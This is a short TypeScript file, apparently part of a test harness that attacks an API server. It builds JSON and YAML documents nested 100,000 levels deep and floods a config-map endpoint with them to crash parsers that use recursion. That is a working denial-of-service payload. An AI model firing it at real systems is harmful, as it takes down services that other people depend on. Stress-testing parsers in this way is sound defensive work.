import { type Attack, configMaps, flood } from "../attack.ts";

const depth = 100_000;
const json = `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;
const yaml = `a: ${"{a: ".repeat(depth)}1${"}".repeat(depth)}`;

/** Documents nested so deep that who reads them with recursion falls. */
export const deepDocuments: Attack = {
  name: "documents 100,000 deep",
  who: "admin",
  run: (attacker) =>
    flood(attacker, {
      who: "admin",
      width: 4,
      ask: (index) => ({
        method: "POST",
        path: configMaps,
        headers: { "content-type": index % 2 === 0 ? "application/json" : "application/yaml" },
        body: index % 2 === 0 ? json : yaml,
      }),
    }),
};
